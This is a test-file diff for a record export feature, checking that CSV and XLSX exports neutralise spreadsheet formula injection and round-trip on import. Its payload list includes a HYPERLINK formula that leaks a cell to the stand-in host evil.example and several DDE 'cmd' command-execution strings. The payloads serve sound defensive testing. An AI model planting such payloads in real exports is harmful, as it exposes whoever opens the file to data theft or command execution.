@@ -147,6 +147,76 @@ describe('record export', () => {
     expect(sheet.getRow(3).getCell(6).numFmt).toBe('0.00');
   });
 
+  describe('formula injection', () => {
+    const FORMULAS = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "\t=cmd|' /C calc'!A0",
+      "\r=cmd|' /C calc'!A0",
+    ];
+    const rows = FORMULAS.map((f3, i) => ({
+      ts: `2026-05-01T00:0${i}:00Z`,
+      values: { f1: -5, f2: i, f3, f5: -1 },
+    }));
+
+    it('a text value that is a spreadsheet formula is exported to CSV as quoted text, negative numbers stay numbers', async () => {
+      const { itemId } = await itemWith();
+      await makeRecords(t, a.id, itemId, rows);
+      const res = await exportFile(a.admin.token, { itemId, format: 'csv' });
+      const text = res.rawPayload.subarray(3).toString('utf8');
+      const lines = text.split('\n');
+      // the raw bytes: the cell is quoted and starts with a single quote
+      expect(lines[1]).toBe(`2026-05-01 08:00:00,-5,0,"'${FORMULAS[0]!.replaceAll('"', '""')}",,-1`);
+      expect(lines[2]).toBe(`2026-05-01 08:01:00,-5,1,"'+cmd|' /C calc'!A0",,-1`);
+      // what a spreadsheet reads: no cell of the file begins with a formula sign
+      const { parse } = await import('csv-parse/sync');
+      const cells: string[][] = parse(text, { relax_column_count: true });
+      expect(cells.slice(1).map((r) => r[3])).toEqual(FORMULAS.map((f) => `'${f}`));
+      for (const cell of cells.flat()) {
+        if (cell === '-5' || cell === '-1') continue;
+        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      expect(cells.slice(1).map((r) => [r[1], r[5]])).toEqual(FORMULAS.map(() => ['-5', '-1']));
+    });
+
+    it('a CSV export with neutralised formulas imports back to the original values', async () => {
+      const source = await itemWith();
+      await makeRecords(t, a.id, source.itemId, [
+        ...rows,
+        { ts: '2026-05-02T00:00:00Z', values: { f1: 1, f2: 9, f3: "'=already quoted" } },
+        { ts: '2026-05-02T00:01:00Z', values: { f1: 1, f2: 10, f3: "'plain quote" } },
+        { ts: '2026-05-02T00:02:00Z', values: { f1: 1, f2: 11, f3: '-5' } },
+      ]);
+      const file = (await exportFile(a.admin.token, { itemId: source.itemId, format: 'csv' })).rawPayload;
+      const target = await itemWith();
+      const res = await importFile(a.admin.token, target.itemId, file);
+      expect(res.json()).toMatchObject({ code: 0, data: { inserted: rows.length + 3, rejected: [] } });
+      const notes = (await contentOf(target.itemId)).map((r) => r.values.f3);
+      expect(notes).toEqual([...FORMULAS, "'=already quoted", "'plain quote", '-5']);
+      const numbers = (await contentOf(target.itemId)).slice(0, FORMULAS.length).map((r) => r.values.f1);
+      expect(numbers).toEqual(FORMULAS.map(() => -5));
+    });
+
+    it('XLSX keeps formulas as plain text cells (no formula in the workbook)', async () => {
+      const { itemId } = await itemWith();
+      await makeRecords(t, a.id, itemId, rows);
+      const res = await exportFile(a.admin.token, { itemId, format: 'xlsx' });
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+      const sheet = book.worksheets[0]!;
+      for (let r = 2; r <= FORMULAS.length + 1; r += 1) {
+        const cell = sheet.getRow(r).getCell(4);
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        // (XML reads a carriage return back as a line feed)
+        expect(cell.value).toBe(FORMULAS[r - 2]!.replace('\r', '\n'));
+        expect(sheet.getRow(r).getCell(2).value).toBe(-5);
+      }
+    });
+  });
+
   it('heads the time column in English for English callers', async () => {
     const { itemId } = await itemWith();
     const res = await t.app.inject({
